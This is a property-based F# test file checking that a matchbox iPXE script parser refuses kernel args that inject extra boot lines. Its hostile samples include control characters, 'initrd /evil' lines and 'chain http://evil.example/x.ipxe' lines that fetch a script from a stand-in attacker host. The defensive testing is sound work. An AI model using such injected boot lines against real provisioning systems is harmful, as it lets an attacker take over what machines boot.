/// HTTP-only and gRPC agree: a profile rendered into /ipxe as matchbox renders it (MatchboxIpxe),
/// then read back by Ipxe.parse and planned, gets the verdict the gRPC lookup gives the same profile:
/// the same plan, or the same error code. Profiles include hostile args (CR, LF, tabs, NUL, spaces,
/// {{ }}, injected iPXE lines), blank args (empty, or only spaces: matchbox writes nothing but their
/// spaces) and args over the count and size limits, blank ones among them. The script is read as
/// the bytes matchbox sends (UTF-8); bytes that are not UTF-8, which matchbox never sends and a
/// gRPC answer cannot carry, are refused wherever they stand.
module IpxeParityTests

open FsCheck
open FsCheck.FSharp
open FsCheck.Xunit
open global.Xunit
open XenMatchbox.Domain
open XenMatchbox.Domain.Errors
open Generators
open MatchboxIpxe

let private source = "/ipxe?mac=52:54:00:aa:bb:cc"
let private httpBase: Profile.HttpBase = { Host = "mb"; Port = 8080; Secure = false }

let private labels =
    Labels.fromLookups
        [ "mac=52:54:00:aa:bb:cc"; "uuid=5eb0a0a4-0c6b-4b9a-9d3e-2f6a1c7b8d90"; "name=fcos-1"; "os=installed" ]
    |> Expect.ok "labels"

let private profileOf (boot: Boot) : Profile.UnvalidatedProfile =
    { Id = source; Kernel = boot.Kernel; Initrds = boot.Initrds; Args = boot.Args }

let private plan (profile: Profile.UnvalidatedProfile) = Profile.create httpBase "/out" labels None profile

/// The verdict as a comparable value: what is downloaded and the command line, or the error code.
let private verdict (result: Result<Profile.BootPlan, BootError>) =
    result
    |> Result.map (fun p -> p.Kernel.Value, [ for i in p.Initrds -> i.Value ], p.CommandLine)
    |> Result.mapError code

let private grpc (boot: Boot) = verdict (plan (profileOf boot))

let private http (style: Style) (boot: Boot) =
    verdict (Ipxe.read source (System.Text.Encoding.UTF8.GetBytes(render style boot)) |> Result.bind plan)

// ---- generators ----

/// Args that hold a single space inside: matchbox's script splits them, and the command line,
/// which joins args with spaces again, stays the same.
let private spaced = Gen.elements [ "quiet splash"; "a=1 b=2"; "root=LABEL=root rw" ]

/// What an attacker puts around the line breaks of an arg: lines matchbox writes, lines it never
/// writes, markers, blanks.
let private piece =
    Gen.elements
        [ "initrd /assets/evil.img"
          "initrd --name main /assets/evil.img"
          "initrd /assets/evil.img "
          "initrd "
          "initrd /a /b"
          "boot"
          "boot "
          "kernel /assets/other"
          "chain http://evil.example/x.ipxe"
          "#!ipxe"
          "echo hi"
          ""
          " "
          "x=1"
          "console=hvc0"
          "{{ .uuid }}"
          "{{"
          "}}"
          "${mac:hexhyp}" ]

/// An arg with at least one control character: CR, LF or CRLF between pieces mostly, a tab or a
/// NUL sometimes.
let private hostileArg =
    gen {
        let! pieces = Gen.nonEmptyListOf piece |> Gen.map (List.truncate 4)
        let! first = piece
        let! breaks =
            Gen.listOfLength
                pieces.Length
                (Gen.frequency
                    [ 4, Gen.constant "\n"
                      2, Gen.constant "\r"
                      2, Gen.constant "\r\n"
                      1, Gen.constant "\n\n"
                      1, Gen.constant "\t"
                      1, Gen.constant "\000" ])
        return first + String.concat "" (List.map2 (+) breaks pieces)
    }

let private boot (argGen: Gen<string>) =
    gen {
        let! kernelOptions = IpxeScriptTests.options
        let! kernel = IpxeScriptTests.reference
        let! initrdCount = Gen.choose (0, 3)
        let! initrds = Gen.listOfLength initrdCount (Gen.map2 (+) IpxeScriptTests.options IpxeScriptTests.reference)
        let! argCount = Gen.choose (0, 6)
        let! args = Gen.listOfLength argCount argGen
        let! style = Gen.elements [ PerLine; LegacyOneLine ]
        return style, { Kernel = kernelOptions + kernel; Initrds = initrds; Args = args }
    }

/// Blank args, as profiles get them (a template's empty variable, a stray "" in the JSON): matchbox
/// renders each as the one space in front of it (and its own spaces), which reads back as nothing.
let private blankArg = Gen.elements [ ""; ""; " "; "  " ]

let private anyArg = Gen.frequency [ 4, IpxeScriptTests.arg; 1, spaced; 3, hostileArg; 1, blankArg ]

let private hasControl (text: string) = text |> Seq.exists System.Char.IsControl

// ---- properties ----

[<Property(MaxTest = 500)>]
let ``a profile rendered into /ipxe gets the verdict gRPC gives it, or reads as another profile's script`` () =
    Prop.forAll (arb (boot anyArg)) (fun (style, boot) ->
        let script = render style boot
        let overGrpc = grpc boot
        let overHttp = http style boot
        let check () =
            if overHttp <> overGrpc then
                // The one case that cannot be told apart: an arg's newline followed by nothing but
                // initrd lines, as matchbox (v0.7.0 on) writes them. The script is then exactly the
                // one of the profile that was read, whose initrds iPXE would boot too.
                match Ipxe.parse source script with
                | Ok parsed ->
                    let injected = style = PerLine && boot.Args |> List.exists (fun a -> a.Contains '\n')
                    Expect.isTrue $"{Expect.escaped script}: HTTP %A{overHttp}, gRPC %A{overGrpc}" injected
                    Expect.isTrue
                        "the parsed args hold no control character"
                        (not (List.exists hasControl parsed.Args))
                    // Rendered again, that profile's script reads back as the same profile (the
                    // injected lines' iPXE options, e.g. "--name main", are not part of it).
                    let again = render style { Kernel = boot.Kernel; Initrds = parsed.Initrds; Args = parsed.Args }
                    Expect.equal "the profile read back" (Ok parsed) (Ipxe.parse source again)
                | Error error ->
                    Expect.fail $"{Expect.escaped script}: HTTP {code error} ({describe error}), gRPC %A{overGrpc}"
        lazy (check ())
        |> Prop.classify (overHttp <> overGrpc) "ambiguous: injected initrd lines"
        |> Prop.classify (Result.isError overGrpc) "refused")

[<Property(MaxTest = 200)>]
let ``args with a CR, LF, tab or NUL are refused over HTTP as over gRPC, with XMB-315, unless read as another profile``
    ()
    =
    Prop.forAll (arb (boot hostileArg |> Gen.filter (fun (_, b) -> not b.Args.IsEmpty))) (fun (style, boot) ->
        match Ipxe.parse source (render style boot) |> Result.bind plan with
        | Error error -> Expect.equalText "XMB-315" (code error)
        | Ok _ -> Expect.isTrue "accepted only as a v0.7.0 script of injected initrd lines" (style = PerLine))

/// Args at the edges of Limits.MaxProfileArgs and MaxProfileArgsBytes, without control characters:
/// plain words, words two to an arg ("a b", which /ipxe splits), and blank args among them.
let private limitArgs =
    let withBlanks (args: string list) =
        gen {
            let! blanks = Gen.frequency [ 2, Gen.constant 0; 1, Gen.choose (1, 40) ]
            let! blank = Gen.listOfLength blanks blankArg
            let! mixed = Gen.shuffle (args @ blank)
            return List.ofArray mixed
        }
    Gen.oneof
        [ gen {
              let! count = Gen.choose (Limits.MaxProfileArgs - 2, Limits.MaxProfileArgs + 2)
              return List.init count (fun i -> $"a{i % 10}")
          }
          gen {
              // Two words an arg: as many words as the plain case, half the args.
              let! count = Gen.choose (Limits.MaxProfileArgs / 2 - 2, Limits.MaxProfileArgs / 2 + 2)
              return List.init count (fun i -> $"a{i % 10} b")
          }
          gen {
              let! extra = Gen.choose (-2, 2)
              let size = Limits.MaxProfileArgsBytes + extra
              let! parts = Gen.choose (1, 3)
              return
                  List.init parts (fun i -> String.replicate (size / parts + (if i = 0 then size % parts else 0)) "a")
          } ]
    |> Gen.bind withBlanks

[<Property(MaxTest = 40)>]
let ``the arg count and size limits apply over HTTP as over gRPC`` () =
    Prop.forAll (arb (Gen.zip limitArgs (Gen.elements [ PerLine; LegacyOneLine ]))) (fun (args, style) ->
        let boot = { Kernel = "/assets/k"; Initrds = [ "/assets/i" ]; Args = args }
        Expect.equal
            $"{args.Length} args of {args |> List.sumBy System.Text.Encoding.UTF8.GetByteCount} bytes"
            (grpc boot)
            (http style boot))

/// A profile's args with some blank ones among them: a few words, or the edge of the arg count.
let private argsWithBlanks =
    gen {
        let! words = Gen.listOf IpxeScriptTests.arg |> Gen.map (List.truncate 6)
        let! blanks =
            Gen.frequency
                [ 3, Gen.choose (0, 8)
                  1, Gen.choose (Limits.MaxProfileArgs - 8 - words.Length, Limits.MaxProfileArgs + 8) ]
        let! blank = Gen.listOfLength blanks blankArg
        let! mixed = Gen.shuffle (words @ blank)
        let mixed = List.ofArray mixed
        // The args that are not blank, in their shuffled order.
        return mixed |> List.filter (fun arg -> arg.Trim(' ').Length > 0), mixed
    }

[<Property(MaxTest = 300)>]
let ``blank args count for nothing, over gRPC as over HTTP: the plan of the profile without them`` () =
    Prop.forAll (arb (Gen.zip argsWithBlanks (Gen.elements [ PerLine; LegacyOneLine ]))) (fun ((words, args), style) ->
        let boot = { Kernel = "/assets/k"; Initrds = [ "/assets/i" ]; Args = args }
        let without = { boot with Args = words }
        Expect.equal $"{args.Length} args, {words.Length} of them not blank, over gRPC" (grpc without) (grpc boot)
        Expect.equal
            $"{args.Length} args, {words.Length} of them not blank, over HTTP"
            (grpc without)
            (http style boot))

[<Fact>]
let ``1025 empty args and one word boot as the word alone, in both modes`` () =
    let boot = { Kernel = "/assets/k"; Initrds = []; Args = List.replicate 1025 "" @ [ "console=hvc0" ] }
    let expected = Ok("http://mb:8080/assets/k", [], Some "console=hvc0")
    Expect.equal "over gRPC" expected (grpc boot)
    Expect.equal "over HTTP" expected (http PerLine boot)

// ---- bytes that are not UTF-8 ----

/// Byte sequences that are not UTF-8 wherever they stand between two characters: bytes UTF-8 never
/// uses, a continuation byte alone, an overlong '/', a UTF-16 surrogate, a sequence cut short, a
/// code point past U+10FFFF.
let private notUtf8 =
    Gen.elements
        [ [| 0xFFuy |]
          [| 0xFEuy |]
          [| 0x80uy |]
          [| 0xC0uy; 0xAFuy |]
          [| 0xEDuy; 0xA0uy; 0x80uy |]
          [| 0xE2uy; 0x82uy |]
          [| 0xF4uy; 0x90uy; 0x80uy; 0x80uy |] ]

[<Property(MaxTest = 300)>]
let ``an /ipxe answer of any profile with bytes that are not UTF-8 anywhere is XMB-211 naming their line`` () =
    let case =
        gen {
            let! style, boot = boot anyArg
            let bytes = System.Text.Encoding.UTF8.GetBytes(render style boot)
            // Between two characters: never in front of a continuation byte.
            let boundaries =
                [ for i in 0 .. bytes.Length do
                      if i = bytes.Length || bytes.[i] &&& 0xC0uy <> 0x80uy then i ]
            let! at = Gen.elements boundaries
            let! bad = notUtf8
            return bytes, at, bad
        }
    Prop.forAll (arb case) (fun (bytes, at, bad) ->
        let answer = Array.concat [ bytes.[.. at - 1]; bad; bytes.[at..] ]
        let line = 1 + (bytes.[.. at - 1] |> Array.filter ((=) 10uy) |> Array.length)
        match Ipxe.read source answer with
        | Error error ->
            Expect.equalText "XMB-211" (code error)
            Expect.contains "the line" $"line {line} holds a byte that is not UTF-8" (describe error)
        | Ok profile -> Expect.fail $"{Expect.escapedBytes answer}: read as %A{profile}")

[<Property>]
let ``an /ipxe answer that is UTF-8 reads as its text does`` () =
    Prop.forAll (arb (boot anyArg)) (fun (style, boot) ->
        let script = render style boot
        Expect.equal
            "the profile"
            (Ipxe.parse source script)
            (Ipxe.read source (System.Text.Encoding.UTF8.GetBytes script)))

// ---- hostile scripts, by example ----

/// The code and the line-and-cause text of refusing the script.
let private refused (script: string) =
    match Ipxe.parse source script with
    | Error error -> code error, describe error
    | Ok profile -> Expect.fail $"{Expect.escaped script}: expected a refusal, got %A{profile}"

[<Theory>]
// an arg "console=hvc0\nchain …": a line of its own right after the kernel line
[<InlineData("#!ipxe\nkernel /k console=hvc0\nchain http://evil/x.ipxe\nboot\n", "XMB-315", "line 3")>]
// an arg "x\nboot": a boot that is not the last line
[<InlineData("#!ipxe\nkernel /k x\nboot\ninitrd /i\nboot\n", "XMB-315", "line 3")>]
[<InlineData("#!ipxe\nkernel /k x\nboot\nboot\n", "XMB-315", "line 3")>]
// an arg "x\ninitrd /evil\nboot": the injected boot comes after an injected initrd
[<InlineData("#!ipxe\nkernel /k x\ninitrd /evil\nboot\ninitrd /i\nboot\n", "XMB-315", "line 4")>]
// an arg "x\nkernel /other": a second kernel line
[<InlineData("#!ipxe\nkernel /k x\nkernel /other\nboot\n", "XMB-315", "line 3")>]
// an arg "x\ninitrd /evil" then an arg "y": the initrd line names two images
[<InlineData("#!ipxe\nkernel /k x\ninitrd /evil y\ninitrd /i\nboot\n", "XMB-315", "line 3")>]
// an arg "x\n": a blank line
[<InlineData("#!ipxe\nkernel /k x\n\ninitrd /i\nboot\n", "XMB-315", "line 3")>]
// v0.6.1 writes one initrd line: an injected one before it shows
[<InlineData("#!ipxe\nkernel /k x\ninitrd /evil\ninitrd /i \nboot\n", "XMB-315", "line 3")>]
[<InlineData("#!ipxe\nkernel /k x\ninitrd /evil \ninitrd \nboot\n", "XMB-315", "line 3")>]
// an arg "x\r" (LF script): the CR stays in the arg
[<InlineData("#!ipxe\nkernel /k x\r\ninitrd /i\nboot\n", "XMB-315", "carriage return")>]
// an arg "x\rinitrd /evil": a CR alone breaks no line
[<InlineData("#!ipxe\nkernel /k x\rinitrd /evil\nboot\n", "XMB-315", "carriage return")>]
// not what matchbox writes at all: no final boot
[<InlineData("#!ipxe\nkernel /k x\nchain http://evil/x.ipxe\n", "XMB-211", "line 3")>]
[<InlineData("#!ipxe\nkernel /k\nboot\nchain http://evil/x.ipxe\n", "XMB-211", "line 4")>]
[<InlineData("#!ipxe\nchain http://evil/x.ipxe\nkernel /k\nboot\n", "XMB-211", "line 2")>]
let ``a hostile script is refused, with XMB-315 when a profile's arg wrote lines of its own``
    (script: string, expectedCode: string, fragment: string)
    =
    let actual, text = refused script
    Expect.equalText expectedCode actual
    Expect.isTrue $"'{text}' names '{fragment}'" (text.Contains fragment)

[<Fact>]
let ``a kernel line over MaxLineBytes is read, its args then held to the profile limits`` () =
    let arg = String.replicate (Limits.MaxProfileArgsBytes + 1) "a"
    let actual, _ = refused ("#!ipxe\nkernel /k " + arg + "\nboot\n")
    Expect.equalText "XMB-316" actual
    let fits = String.replicate (Limits.MaxProfileArgsBytes) "a"
    let parsed = Ipxe.parse source ("#!ipxe\nkernel /k " + fits + "\nboot\n") |> Expect.ok "the script"
    Expect.equal "the arg" [ fits ] parsed.Args

[<Fact>]
let ``injected initrd lines in a v0.7.0 script are exactly another profile's script, and read as it`` () =
    // The limit of HTTP-only mode: matchbox wrote the same bytes for both profiles.
    let injected = { Kernel = "/k"; Initrds = []; Args = [ "x\ninitrd /evil" ] }
    let plain = { Kernel = "/k"; Initrds = [ "/evil" ]; Args = [ "x" ] }
    Expect.equalText (render PerLine plain) (render PerLine injected)
    Expect.equal "the injected profile over gRPC" (Error "XMB-315") (grpc injected)
    Expect.equal "over HTTP, the script of the plain profile" (grpc plain) (http PerLine injected)
    Expect.equal "v0.6.1 shows the injection" (Error "XMB-315") (http LegacyOneLine injected)
